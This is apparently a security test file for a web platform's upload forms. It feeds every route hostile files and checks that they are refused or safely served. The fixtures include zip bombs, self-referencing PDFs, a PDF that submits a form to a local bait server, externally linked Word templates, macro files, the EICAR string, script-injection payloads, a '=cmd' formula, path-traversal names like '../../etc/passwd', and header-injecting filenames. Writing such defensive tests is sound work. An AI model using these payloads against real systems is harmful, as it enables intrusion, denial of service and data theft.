import { readdirSync, readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:net';
import { strToU8, type Zippable, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { type Browser, type DemonstrationSite, openDemonstrationSite } from './fixtures/demonstration-site.ts';
import { linesDown, makePdf } from './modules/knowledge/fixtures/make-pdf.ts';

/**
 * Hostile files through every form that takes files, by the list of routes: each is refused in a sentence and leaves nothing, or is kept and only ever handed
 * over; none makes the site fetch anything, stop answering, or its readers grow without end. What readers make of single files:
 * `src/modules/knowledge/hostile.test.ts`.
 */
const SHELF = '/asean-canada/documents';
const DISCUSSION = '/asean-canada/discussions/2f6b1c0e-51d4-4d0b-9a57-0c1d5e8a7b01';

let site: DemonstrationSite;
let canada: Browser;
/** Whoever connects here was made to fetch something. */
let bait: Server;
let fetched = 0;
beforeAll(async () => {
  bait = createServer((socket) => {
    fetched += 1;
    socket.destroy();
  });
  await new Promise<void>((ready) => bait.listen(0, '127.0.0.1', ready));
  site = await openDemonstrationSite();
  canada = await site.as('catherine.lavoie', 'speaker');
}, 600_000);
afterAll(async () => {
  await site?.close();
  await new Promise((closed) => bait.close(closed));
});

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const body = (inside: string) => `<w:document ${W}><w:body>${inside}</w:body></w:document>`;
const p = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const types = (main: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const docx = (document: string, more: Zippable = {}, main = MAIN) =>
  zipSync({ '[Content_Types].xml': strToU8(types(main)), 'word/document.xml': strToU8(document), ...more });
const relation = (kind: string, target: string) =>
  strToU8(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
  );
const outside = (path: string) => `http://127.0.0.1:${(bait.address() as AddressInfo).port}/${path}`;

/** Sizes in the headers of an archive that claim a gigabyte for each entry. */
function claiming(archive: Uint8Array): Uint8Array {
  const copy = Buffer.from(archive);
  for (const [mark, at] of [
    ['PK\u0001\u0002', 24],
    ['PK\u0003\u0004', 22],
  ] as const)
    for (let from = copy.indexOf(mark); from >= 0; from = copy.indexOf(mark, from + 4)) copy.writeUInt32LE(1 << 30, from + at);
  return copy;
}
const nested = (): Uint8Array => {
  let inner = zipSync({ zeros: new Uint8Array(32 << 20) });
  for (let depth = 0; depth < 6; depth += 1) inner = zipSync({ a: inner, b: inner, c: inner });
  return docx(body(p('plain words')), { 'word/embeddings/a.zip': inner });
};
const pdf = (objects: string) => strToU8(`%PDF-1.7\n${objects}\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
const TEXT = 'text/plain';

/** Name, bytes, what the browser claims it to be, and whether a shelf may take it; undefined: either is well. */
const FILES: readonly (readonly [
  what: string,
  name: string,
  make: () => Uint8Array | string,
  type: string,
  taken: boolean | undefined,
])[] = [
  ['archives within archives', 'nested.docx', nested, MAIN, true],
  ['an archive that is nothing else', 'bomb.zip', () => zipSync({ zeros: new Uint8Array(64 << 20) }), 'application/zip', false],
  ['an archive that claims gigabytes', 'claims.docx', () => claiming(docx(body(p('x')))), MAIN, undefined],
  ['a flood of numbered letters', 'flood.docx', () => docx(body(p('&#x41;'.repeat(400_000)))), MAIN, true],
  [
    'elements deep in each other',
    'deep.docx',
    () => docx(body(`${'<w:sdt>'.repeat(50_000)}x${'</w:sdt>'.repeat(50_000)}`)),
    MAIN,
    true,
  ],
  ['a million columns', 'columns.txt', () => 'a,'.repeat(1_000_000), TEXT, true],
  ['a line without end', 'line.txt', () => 'x'.repeat(8 << 20), TEXT, true],
  [
    'pages that hold themselves',
    'loop.pdf',
    () => pdf('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj'),
    'application/pdf',
    true,
  ],
  [
    'a length that is itself',
    'length.pdf',
    () => pdf('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Length 2 0 R >>\nstream\nx\nendstream\nendobj'),
    'application/pdf',
    true,
  ],
  [
    'a PDF with a file inside and a form that is sent',
    'embedded.pdf',
    () =>
      makePdf([linesDown(['plain words'])], {
        more: `/OpenAction << /S /SubmitForm /F (${outside('form')}) >> /Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>`,
        objects: ['<< /Type /Filespec /F (evil.exe) >>'],
      }),
    'application/pdf',
    true,
  ],
  [
    'a page that is a PDF further on',
    'polyglot.pdf',
    () => `<html><script>alert(1)</script>\n%PDF-1.7\n1 0 obj\nendobj`,
    'application/pdf',
    false,
  ],
  [
    'a picture with a script, called text',
    'picture.txt',
    () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'image/svg+xml',
    undefined,
  ],
  ['a text that browsers would run', 'page.txt', () => 'plain words\n<script>alert(document.cookie)</script>', 'text/html', true],
  [
    'a Word file with a template elsewhere',
    'template.docx',
    () => docx(body(p('x')), { 'word/_rels/settings.xml.rels': relation('attachedTemplate', outside('evil.dotm')) }),
    MAIN,
    true,
  ],
  [
    'a Word file with a picture elsewhere',
    'linked.docx',
    () =>
      docx(body(`${p('x')}<w:p><w:r><w:drawing><a:blip xmlns:a="a" xmlns:r="r" r:link="r1"/></w:drawing></w:r></w:p>`), {
        'word/_rels/document.xml.rels': relation('image', outside('a.png')),
      }),
    MAIN,
    true,
  ],
  [
    'macros that say so',
    'macro.docx',
    () => docx(body(p('x')), { 'word/vbaProject.bin': strToU8('x') }, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    MAIN,
    false,
  ],
  ['macros in hiding', 'hidden.docx', () => docx(body(p('x')), { 'word/vbaProject.bin': strToU8('x') }), MAIN, true],
  [
    'what scanners look for',
    'eicar.txt',
    () => 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
    TEXT,
    true,
  ],
  ['formulas', 'formulas.txt', () => "=cmd|' /C calc'!A0\n@SUM(1+1)\n+1\n-1", TEXT, true],
  [
    'a program',
    'program.pdf',
    () => Buffer.concat([Buffer.from('MZ\u0090\u0000'), Buffer.alloc(2_000, 3)]),
    'application/pdf',
    false,
  ],
];

/** Names that reach for something; the content is harmless. */
const NAMES = [
  ...['../../etc/passwd.txt', '..\\..\\windows\\system.txt', '/etc/cron.d/x.txt', 'C:\\x.txt', 'file:///etc/passwd.txt'],
  ...[
    'a\u202Etxt.exe.txt',
    'a\u2066b\u2069.txt',
    '\u0007bell.txt',
    'line\u2028break.txt',
    'tab\tname.txt',
    `${'x'.repeat(400)}.txt`,
  ],
  ...[
    '"; filename="evil.html.txt',
    "a'b%0d%0aX-Evil: 1.txt",
    '<img src=x onerror=alert(1)>.txt',
    '=cmd|calc.txt',
    'con.txt',
    '.txt',
    'a.html.txt',
  ],
];

/** Each form that takes files: how a file is sent by it, and where it may then be fetched. */
type Form = {
  readonly send: (file: File) => Promise<Response>;
  /** Where what was taken is handed over; null where none of these may be taken at all. */
  readonly found: ((answer: Response, bytes: Buffer) => Promise<string | undefined>) | null;
};
const FORMS: Readonly<Record<string, Form>> = {
  '/:partnership/documents': { send: (file) => canada.upload(SHELF, ABOUT, { 'file[]': file }), found: fromShelf },
  '/:partnership/documents/:document/files': { send: replace, found: fromShelf },
  '/:partnership/discussions': {
    send: async (file) =>
      canada.upload('/asean-canada/discussions', { ...(await newThread()), words: 'With a file' }, { 'files[]': file }),
    found: fromDiscussion,
  },
  '/:partnership/discussions/:thread/comments': {
    send: (file) => canada.upload(`${DISCUSSION}/comments`, { words: 'With a file' }, { 'files[]': file }),
    found: fromDiscussion,
  },
  '/:partnership/plans/drafts': {
    send: (file) => canada.upload('/asean-canada/plans/drafts', {}, { file }),
    found: async (answer) => {
      const [, id] = /drafts\/([0-9a-f-]{36})/.exec(answer.headers.get('location') ?? '') ?? [];
      return `/asean-canada/plans/drafts/${id}/file`;
    },
  },
  // Only a file that came from here comes back.
  '/:partnership/plans/:plan/notes/copies': {
    send: (file) => canada.upload('/asean-canada/plans/2007-10/notes/copies', {}, { file }),
    found: null,
  },
};
const ABOUT = { title: '', day: '2008-06-20', kind: 'paper', language: 'en' };

async function replace(file: File): Promise<Response> {
  const made = await canada.upload(SHELF, ABOUT, { 'file[]': new File([`To be replaced ${crypto.randomUUID()}`], 'first.txt') });
  const id = made.headers.get('location')?.split('/').at(-1) ?? '';
  await settledReading();
  const [row] = await site.ask('select version from platform.record where id = $1', [id]);
  counted = await count();
  return canada.upload(`${SHELF}/${id}/files`, { version: String(row?.version) }, { file });
}

async function newThread(): Promise<Record<string, string>> {
  const [line] = await site.ask(
    `select n.id from plan.node n join plan.plan p on p.id = n.plan where p.slug = '2007-10' and n.reference = 'A.2.1.2'`,
  );
  const page = await canada.text('/asean-canada/plans/2007-10/lines/A.2.1.2');
  return { record: line?.id, wall: /name="wall" value="([^"]+)"/.exec(page)?.[1] ?? '' };
}

async function fromShelf(answer: Response): Promise<string | undefined> {
  const id = answer.headers.get('location')?.split('/').at(-1);
  const [row] = await site.ask('select max(number) as number from knowledge.file where document = $1', [id]);
  return `${SHELF}/${id}/files/${row?.number}`;
}
async function fromDiscussion(_: Response, bytes: Buffer): Promise<string | undefined> {
  const [row] = await site.ask(
    `select n.thread, n.attachment from discuss.enclosure n join platform.attachment a on a.id = n.attachment where a.sha256 = sha256($1) limit 1`,
    [bytes],
  );
  return row && `/asean-canada/discussions/${row.thread}/files/${row.attachment}`;
}

/** How much is kept, by rows. */
let counted = { attachments: 0, comments: 0, documents: 0 };
const count = async () =>
  (
    await site.ask<typeof counted>(
      `select (select count(*)::int from platform.attachment) as attachments, (select count(*)::int from discuss.comment) as comments,
        (select count(*)::int from knowledge.document) as documents`,
    )
  )[0] as typeof counted;
const settledReading = () =>
  vi.waitFor(async () => expect(await site.ask(`select from knowledge.file where state = 'waiting'`)).toEqual([]), {
    timeout: 90_000,
    interval: 100,
  });

/** The most memory that any program held which this process started, in megabytes: what readers apart use at their worst. */
let most = 0;
function lookAtChildren(): void {
  for (const pid of readdirSync('/proc').filter((each) => /^\d+$/.test(each)))
    try {
      const status = readFileSync(`/proc/${pid}/status`, 'utf8');
      if (!new RegExp(`^PPid:\\s${process.pid}$`, 'm').test(status)) continue;
      if (!readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('max-old-space-size')) continue;
      most = Math.max(most, Number(/^VmHWM:\s+(\d+)/m.exec(status)?.[1] ?? 0) / 1024);
    } catch {
      // It ended while it was looked at.
    }
}

/** Letters that no name of a file may carry to a disk or a screen: they end lines, or turn what follows around. */
const UNFIT = /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/u;

/** Sends a file, and holds what must be true whatever the file is. */
async function tryIt(form: Form, file: File, taken: boolean | undefined): Promise<void> {
  counted = await count();
  const bytes = Buffer.from(await file.arrayBuffer());
  const answer = await form.send(file);
  const meanwhile = await site.visitor().get('/asean-canada');
  expect(meanwhile.status).toBe(200);
  if (taken !== undefined) expect(answer.status === 303, `${answer.status} ${file.name}`).toBe(taken);
  if (answer.status !== 303) {
    expect([400, 413, 415, 422]).toContain(answer.status);
    const words = (await answer.text()).replace(/<[^>]+>/g, ' ');
    expect(words).not.toMatch(/node_modules|\bat \w+ \(|undefined|\[object|Error:/);
    expect(await count(), 'nothing is left of what was refused').toEqual(counted);
    return;
  }
  expect(form.found, `${file.name} is none of ours`).not.toBeNull();
  const address = (await form.found?.(answer, bytes)) ?? '';
  const got = await canada.get(address);
  expect(got.status, address).toBe(200);
  const disposition = got.headers.get('content-disposition') ?? '';
  expect(disposition).toMatch(/^attachment; filename/);
  const said = decodeURIComponent(disposition.replace(/%(?![0-9A-F]{2})/gi, '%25'));
  expect([...said].filter((letter) => UNFIT.test(letter) || '/\\'.includes(letter))).toEqual([]);
  expect(got.headers.get('x-content-type-options')).toBe('nosniff');
  expect(got.headers.get('content-security-policy')).toContain("default-src 'none'");
  expect(got.headers.get('content-type')).not.toMatch(/html|svg|xml;|javascript/);
  expect(Buffer.from(await got.arrayBuffer()).equals(bytes)).toBe(true);
}

test('every form that takes files is tried', () => {
  expect(Object.keys(FORMS).sort()).toEqual(
    site.application.routes
      .filter((route) => route.files !== null)
      .map((route) => route.path)
      .sort(),
  );
});

describe.each(Object.keys(FORMS))('%s', (path) => {
  const form = FORMS[path] as Form;
  const shelf = path.includes('/documents');
  test.each(FILES.map((each) => [each[0], each] as const))('%s', { timeout: 180_000 }, async (_, [, name, make, type, taken]) => {
    const watch = setInterval(lookAtChildren, 50);
    try {
      await tryIt(form, new File([Buffer.from(make())], name, { type }), shelf ? taken : undefined);
      if (shelf) await settledReading();
    } finally {
      clearInterval(watch);
    }
  });

  test('names that reach for something', { timeout: 300_000 }, async () => {
    for (const name of NAMES) await tryIt(form, new File([`Words ${crypto.randomUUID()}`], name), undefined);
    if (shelf) await settledReading();
  });
});

test('nobody was made to fetch anything, and readers stayed within their memory', () => {
  expect(fetched).toBe(0);
  expect(most).toBeGreaterThan(20);
  expect(most).toBeLessThan(900);
});
